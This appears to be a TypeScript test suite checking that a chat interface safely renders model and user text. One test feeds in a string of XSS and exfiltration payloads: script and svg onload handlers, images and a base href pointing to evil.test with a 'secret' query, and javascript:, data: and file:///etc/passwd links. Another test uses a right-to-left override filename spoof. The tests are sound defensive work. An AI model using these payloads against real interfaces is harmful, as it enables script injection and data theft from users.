import assert from 'node:assert/strict';
import { describe } from 'node:test';
import { inChat, show } from './in-chat.ts';
import { assistant, call, user } from './scenes.ts';

describe('what a model writes', () => {
  const attack = `<script>window.pwned = 1</script>
<img src="https://evil.test/a.png" onerror="window.pwned = 2">

![secret](https://evil.test/?q=secret) ![local](/leak.png) <iframe src="/leak"></iframe> <a href="javascript:window.pwned=3">x</a>

[cmd](command:evil) [js](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>) [file](file:///etc/passwd) [web](https://example.com/a?b=1)

<svg onload="window.pwned = 6"></svg><style>body { background: url(/leak) }</style><base href="https://evil.test/">`;

  inChat('loads nothing, runs nothing and leads nowhere', async (chat) => {
    const asked: string[] = [];
    chat.page.on('request', (request) => asked.push(request.url()));
    await show(chat, [user('u', attack), assistant('a', attack), call('c', { title: attack, summary: attack.slice(0, 200), detail: attack }), { kind: 'notice', id: 'n', level: 'error', text: attack, actions: [] }]);
    await chat.page.locator('button.call-row').click();
    await chat.page.locator('.address', { hasText: 'javascript:window.pwned=4' }).click();
    assert.deepEqual(asked, []);
    assert.equal(await chat.page.evaluate(() => 'pwned' in window), false);
    assert.equal(await chat.page.locator('#root').locator('img, script, iframe, style, base, [href], [src], [onerror], [onload]').count(), 0);
    assert.deepEqual(await chat.postedOf('openLink'), []);
  });

  inChat('opens a web link only by asking the host, by mouse and by keyboard', async (chat) => {
    await show(chat, [assistant('a', attack)]);
    const link = chat.page.getByRole('link', { name: 'web' });
    assert.equal(await chat.page.getByRole('link').count(), 1);
    assert.equal(await link.getAttribute('title'), 'https://example.com/a?b=1');
    await link.click();
    await link.press('Enter');
    assert.deepEqual(await chat.postedOf('openLink'), [{ type: 'openLink', url: 'https://example.com/a?b=1' }, { type: 'openLink', url: 'https://example.com/a?b=1' }]);
  });

  inChat('cannot hide characters', async (chat) => {
    await show(chat, [assistant('a', 'run \u202Egnp.exe'), call('c', { title: 'Read a\u200Bb' })]);
    await chat.page.getByText('run ‹U+202E›gnp.exe').waitFor();
    await chat.page.getByText('Read a‹U+200B›b').waitFor();
  });

  inChat('may be one line of a megabyte', async (chat) => {
    await show(chat, [assistant('a', 'x'.repeat(1_000_000)), assistant('b', 'after')]);
    await chat.page.getByText('990,000 more characters not shown').waitFor();
    await chat.page.getByText('after', { exact: true }).waitFor();
  });

  inChat('streams in 500 pieces into the right text, and finished blocks stay the same elements', async (chat) => {
    await show(chat, [user('u', 'go'), assistant('a', '# Title\n\nFirst paragraph.\n\nSecond paragraph.\n\n', true)], { activity: 'streaming' });
    await chat.page.evaluate(() => { document.querySelector('.markdown p')?.setAttribute('data-seen', ''); });
    await chat.page.evaluate(async () => {
      for (let n = 0; n < 500; n += 1) {
        window.postMessage({ type: 'delta', id: 'a', field: 'text', text: n % 50 === 49 ? `w${n}.\n\n` : `w${n} ` }, '*');
        if (n % 10 === 0) await new Promise((resolve) => { requestAnimationFrame(resolve); });
      }
    });
    await chat.settle();
    const paragraphs = await chat.page.locator('.markdown p').allTextContents();
    const words = Array.from({ length: 500 }, (_, n) => `w${n}`);
    assert.deepEqual(paragraphs.slice(2).map((text) => text.replace('.', '')), Array.from({ length: 10 }, (_, n) => words.slice(n * 50, n * 50 + 50).join(' ')));
    assert.equal(await chat.page.locator('.markdown p[data-seen]').textContent(), 'First paragraph.');
  });

  inChat('is copied as it was written', async (chat) => {
    await chat.context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await show(chat, [assistant('a', '```ts\nconst a = 1;\n```')]);
    await chat.page.locator('.code-block').hover();
    await chat.page.getByRole('button', { name: 'Copy code' }).click();
    await chat.page.getByRole('button', { name: 'Copied code' }).waitFor();
    assert.equal(await chat.page.evaluate(() => navigator.clipboard.readText()), 'const a = 1;');
  });
});
